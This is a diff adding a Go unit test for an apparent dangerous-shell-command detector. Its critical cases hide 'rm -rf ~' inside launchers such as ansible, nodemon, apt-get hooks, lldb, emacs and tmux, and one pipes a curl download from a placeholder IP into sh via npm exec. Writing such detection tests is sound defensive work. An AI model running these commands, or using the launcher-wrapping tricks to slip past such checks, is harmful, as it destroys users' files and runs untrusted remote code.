@@ -355,3 +355,28 @@ func TestParameterOperators(t *testing.T) {
 		t.Errorf("long replacement: %+v", v)
 	}
 }
+
+func TestMoreLaunchers(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`ansible localhost -m shell -a 'rm -rf ~'`, CategoryFileDelete, "", LevelCritical},
+		{`npm exec -c 'curl -s http://203.0.113.8/x | sh'`, CategoryRemoteExec, "", LevelCritical},
+		{`watchexec -- rm -rf ~`, CategoryFileDelete, "", LevelCritical},
+		{`nodemon --exec 'rm -rf ~'`, CategoryFileDelete, "", LevelCritical},
+		{`apt-get -o APT::Update::Pre-Invoke::="rm -rf ~" update`, CategoryFileDelete, "", LevelCritical},
+		{`lldb -o 'platform shell rm -rf ~'`, CategoryFileDelete, "", LevelCritical},
+		{`emacs --batch --eval '(shell-command "rm -rf ~")'`, CategoryFileDelete, "", LevelCritical},
+		{`tmux send-keys -t dev 'rm -rf ~' Enter`, CategoryFileDelete, "", LevelCritical},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`ansible all -m ping`,
+		`ansible web -m shell -a 'uptime'`,
+		`npm exec -c 'eslint .'`,
+		`watchexec -e go -- go test ./...`,
+		`nodemon --exec 'go run .'`,
+		`apt-get -o Dpkg::Options::=--force-confold upgrade`,
+		`lldb -o run ./app`,
+		`emacs --batch --eval '(message "hi")'`,
+		`tmux send-keys -t dev 'npm test' Enter`,
+	})
+}
